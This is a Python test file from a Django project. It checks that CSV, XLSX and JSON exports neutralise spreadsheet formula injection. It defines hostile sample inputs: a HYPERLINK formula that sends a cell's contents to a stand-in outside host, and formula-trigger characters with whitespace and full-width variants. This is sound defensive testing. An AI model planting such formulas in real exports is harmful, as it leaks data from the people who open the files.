"""A title that a spreadsheet would run leaves every export as a text, and comes back as it was."""

import csv
import io
import json

import pytest
from django.test import Client
from openpyxl import load_workbook

from kerege.lib.tables import Table, unsafe, write
from kerege.people.rules import SYSTEM
from kerege.training import actions as training
from tests.house.outlets import ROUTES

FORMULA = '=HYPERLINK("https://elsewhere.example/?"&A1,"Click")'
SIGNS = ["=", "+", "-", "@", "|", "%", "\uff1d", "\uff0b", "\uff0d", "\uff20"]
RUNS = tuple(SIGNS)
HOSTILE = [
    *(f"{sign}1+1" for sign in SIGNS),
    *(f"{before}=1+1" for before in ("\t", "\r", "\n", " ", "\u00a0", "\u3000", "\ufeff", " \t \n")),
    "'=1+1",
    "''",
]
HARMLESS = ["2018-04-04", "a = b", "Ответ: -1", "№ 5", "(+7) 727", ""]


def cells(content):
    return [cell for row in csv.reader(io.StringIO(content.decode("utf-8-sig"))) for cell in row]


@pytest.mark.nodb
@pytest.mark.parametrize("text", HOSTILE)
def test_a_text_that_would_run_is_held_in_csv_and_typed_in_xlsx(text):
    table = Table(title="t", headings=[text], rows=[[text]], about=[text])
    for cell in cells(write(table, "csv")):
        assert cell.startswith("'") or cell == ""
    assert [unsafe(cell) for cell in cells(write(table, "csv")) if cell] == [text] * 3
    sheet = load_workbook(io.BytesIO(write(table, "xlsx"))).active
    found = [cell for row in sheet for cell in row if cell.value is not None]
    assert {cell.data_type for cell in found} == {"s"}
    assert json.loads(write(table, "json"))["rows"] == [[text]]


@pytest.mark.nodb
@pytest.mark.parametrize("text", HARMLESS)
def test_other_texts_leave_as_they_are(text):
    assert cells(write(Table(title="t", headings=["h"], rows=[[text]]), "csv")) == ["h", text]


@pytest.mark.nodb
def test_numbers_stay_numbers():
    table = Table(title="t", headings=["h"], rows=[[-5], [2.5]])
    assert cells(write(table, "csv"))[1:] == ["-5", "2.5"]
    sheet = load_workbook(io.BytesIO(write(table, "xlsx"))).active
    assert {cell.value for row in sheet for cell in row if cell.data_type == "n"} >= {-5, 2.5}


def tables(form):
    """Every address of the register of outlets that gives this format, without those of single records."""
    found = [address for outlet in ROUTES.values() for address in outlet.all_addresses()]
    return [a for a in found if (a.endswith(f"format={form}") or a.split("?")[0].endswith(f".{form}")) and "{" not in a]


@pytest.fixture
def hostile(demo_world):
    told = {"by": SYSTEM, "owner": "KAZ", "sources": ["S1"], "project_key": "P53", "dates": "2018-05-06"}
    training.record_course(
        **told, key="HOSTILE", title=FORMULA, kind="tot_part1", status="held", venue="KAZ", trainees_from="KAZ"
    )


def test_no_cell_of_any_export_runs(hostile):
    client, seen = Client(), 0
    assert len(tables("csv")) >= 8
    for address in tables("csv"):
        answer = client.get(address)
        if answer.status_code == 200:
            found = cells(answer.content)
            assert [cell for cell in found if cell.strip().startswith(RUNS) and not _is_number(cell)] == [], address
            seen += f"'{FORMULA}" in found
    assert seen, "the hostile title was nowhere, so this proves nothing"
    for address in tables("xlsx"):
        answer = client.get(address)
        if answer.status_code == 200:
            book = load_workbook(io.BytesIO(answer.content))
            assert "f" not in {cell.data_type for row in book.active for cell in row}, address


def _is_number(cell):
    try:
        float(cell)
    except ValueError:
        return False
    return True
